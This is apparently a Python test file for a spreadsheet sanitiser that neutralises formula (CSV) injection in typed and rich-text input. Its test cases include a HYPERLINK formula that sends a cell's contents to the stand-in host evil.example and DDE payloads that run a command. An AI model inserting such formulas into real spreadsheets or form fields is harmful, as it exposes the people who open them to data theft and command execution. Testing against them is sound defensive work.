"""No text that people write is a formula in a spreadsheet; what is none stays as it was typed."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aftersales.core.input.spreadsheet_rules import no_formula, no_formula_in_html


@pytest.mark.parametrize(
	"typed, stored",
	[
		(
			'=HYPERLINK("http://evil.example/?"&B2,"click")',
			'\'=HYPERLINK("http://evil.example/?"&B2,"click")',
		),
		("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
		("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
		("@SUM(1+1)", "'@SUM(1+1)"),
		("-2+3+cmd|' /C calc'!A0", "–2+3+cmd|' /C calc'!A0"),
		("\t=1+1", "\t'=1+1"),
		("\r=1+1", "\r'=1+1"),
		("No heat;=1+1", "No heat;'=1+1"),
		("- does not start", "– does not start"),
		("-5 °C in the freezer", "–5 °C in the freezer"),
	],
)
def test_formulas_are_made_text(typed, stored):
	assert no_formula(typed) == stored


@pytest.mark.parametrize(
	"typed",
	[
		"+353 1 777 1234",
		"+49 (0)30/12 34-56",
		"-5",
		"-5.50",
		"No hot water",
		"12-5 = 7",
		"a@example.com",
		"E-mail; tel. +353 1 777",
		"It drips ;-)",
		"",
		None,
	],
)
def test_what_calculates_nothing_stays(typed):
	assert no_formula(typed) == typed


@given(st.text("=+-@;\t\r\n 1aA(|'\"", max_size=30) | st.text(max_size=60))
def test_no_cell_begins_like_a_formula(text):
	stored = no_formula(text)
	start = stored.strip()
	assert not re.match(r"[=@]", start)
	assert not start or start[0] not in "+-" or re.fullmatch(r"[+-]\(?\d[\d\s().,/%-]*", start)
	assert no_formula(stored) == stored


@given(st.text("=+-@;\t 1aA", max_size=20))
def test_nor_does_one_where_the_file_is_split_at_another_separator(text):
	written = io.StringIO()
	csv.writer(written).writerow(["x", no_formula(text)])
	for separator in (",", ";", "\t"):
		for cell in next(csv.reader([written.getvalue().strip("\r\n")], delimiter=separator), []):
			assert not re.match(r"\s*[=@]", cell), cell


@pytest.mark.parametrize(
	"typed, stored",
	[
		("<p>=1+1</p>", "<p>'=1+1</p>"),
		("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
		('<div class="ql-editor"><p>&nbsp; <b>@SUM(1)</b></p></div>', None),
		("<p>- does not start</p>", "<p>– does not start</p>"),
		("<p>+353 1 777 1234</p>", "<p>+353 1 777 1234</p>"),
		('<p style="color:red;-webkit-x:1">No heat</p>', '<p style="color:red;-webkit-x:1">No heat</p>'),
		("", ""),
		(None, None),
	],
)
def test_rich_text_begins_no_formula_where_its_tags_are_taken_off(typed, stored):
	if stored is None and typed:
		stored = typed.replace("@SUM", "'@SUM")
	assert no_formula_in_html(typed) == stored
	assert no_formula_in_html(stored) == stored
